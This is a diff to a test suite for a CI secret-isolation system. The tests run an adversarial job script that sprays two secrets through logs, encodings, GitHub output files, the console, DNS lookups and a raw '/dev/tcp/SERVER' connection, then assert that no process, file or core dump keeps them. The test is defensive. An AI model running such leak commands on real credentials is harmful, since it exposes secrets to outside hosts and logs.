@@ -36,7 +36,7 @@ test "$(cat /run/secrets/GIVEN)" = "$GIVEN" && test "$(cat /run/secrets/OF_VAULT
 for value in "$GIVEN" "$OF_VAULT"; do
   echo "plain $value"; printf %s "$value" | base64 -w0; echo; printf x%s "$value" | base64 -w0; echo; printf %s "$value" | od -An -v -tx1 | tr -d ' \\n'; echo
   echo "::error title=$value,file=$value.c,line=1::failed with $value"; echo "::notice::$value"; echo "::group::$value"; echo "::endgroup::"; echo "::debug::$value"
-  echo "- $value" >> $GITHUB_STEP_SUMMARY; echo "of=$value" >> $GITHUB_OUTPUT; echo "NAME=$value" >> $GITHUB_ENV; sudo sh -c "echo '$value' > /dev/console"
+  echo "- $value" >> $GITHUB_STEP_SUMMARY; echo "of=$value" >> $GITHUB_OUTPUT; echo "NAME=$value" >> $GITHUB_ENV
 done
 (sleep 1000; echo "$GIVEN") & disown
 python3 -c "import os; x = [os.environ['OF_VAULT'] * 9 + str(i) for i in range(999)]; print(len(x))"
@@ -44,11 +44,11 @@ WRITES
 echo used-$((1+1))
 exec 3<>/dev/tcp/SERVER/8080; echo here >&3; read -r go <&3; exit $go
 """
-# What the job itself leaves in its files, and what it looks up and tries to reach: in a guest that is kept, that is there.
+# What the job itself leaves in its files and on the console, and what it looks up: in a guest that is kept, that is there.
 WRITES = """
 for value in "$GIVEN" "$OF_VAULT"; do
   printf %s "$value" > "$RUNNER_TEMP/kept"; printf %s "$value" > /dev/shm/kept; seq 200 | sed "s/\\$/ $value/" > many; sudo cp many /var/tmp/many; sync
-  getent hosts "$value.example.test"
+  getent hosts "$value.example.test"; sudo sh -c "echo '$value' > /dev/console"
 done
 timeout 20 bash -c "echo $GIVEN > /dev/tcp/SERVER/81" || true
 """
@@ -227,12 +227,13 @@ def test_nothing_of_a_secret_is_where_it_must_not_be(place):
         assert {"devdep-cli", "devdep-job", "devdep-secrets", "qemu-system-x86"} == there.programs(), there
         # Nobody else has any of it: not those for sources, artifacts, caches, connections, nor the jail, nor anybody's arguments.
         assert there.unsafe("qemu-system-x86", "devdep-job") == [] and canaries.in_process_table(place.needles) == []
+        assert not canaries.is_dumpable(part("devdep-job")) and {pid for pid in runs.descendants() if not canaries.leaves_no_core(pid)} == set()
         assert written_elsewhere(place, place.folder) == []
         # It fails, and its guest is kept for a person: what still has them can neither be swapped out nor dumped.
         place.gate.open(3)
         terminal.expect(b"a shell in the failed job's guest")
         kept = place.look()
-        assert kept.programs() - {"qemu-system-x86"} == {"devdep-cli", "devdep-job"} and kept.unsafe("qemu-system-x86") == [], kept
+        assert kept.programs() == {"devdep-cli", "devdep-job"} and kept.unsafe() == [], kept
         assert part("qemu-system-x86") and canaries.in_process_table(place.needles) == []
         terminal.expect(b"$ ")
         os.write(terminal.ours, b"exit\r")
